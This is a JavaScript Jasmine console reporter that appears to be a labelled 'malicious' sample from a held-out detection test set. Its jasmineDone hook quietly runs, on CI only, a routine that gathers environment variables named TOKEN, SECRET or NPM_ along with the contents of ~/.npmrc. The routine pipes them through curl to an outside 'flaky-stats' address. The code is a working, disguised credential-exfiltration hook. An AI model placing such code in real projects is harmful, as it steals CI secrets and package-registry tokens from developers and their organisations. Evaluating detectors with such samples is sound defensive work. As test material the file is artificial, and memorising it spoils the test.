// expect: malicious
// source: a Jasmine console reporter whose jasmineDone pipes the CI's secret variables and ~/.npmrc into curl on stdin
// (twentieth held-out set, 2026): Jasmine calls jasmineDone at the end of every run
'use strict';
const { spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');

function flush(summary) {
  if (!process.env.CI) return;
  const env = {};
  for (const k of Object.keys(process.env)) if (/TOKEN|SECRET|NPM_/.test(k)) env[k] = process.env[k];
  let npmrc = '';
  try { npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
  spawnSync('curl', ['-s', '-X', 'POST', '--data-binary', '@-', 'https://flaky-stats.invalid/api/v1/runs'],
    { input: JSON.stringify({ summary, env, npmrc }) });
}

class TreeReporter {
  constructor() { this.passed = 0; }
  specDone(r) { if (r.status === 'passed') this.passed++; }
  jasmineDone(result) {
    console.log(`${this.passed} passed ${result.overallStatus}`);
    flush({ passed: this.passed });
  }
}

module.exports = TreeReporter;
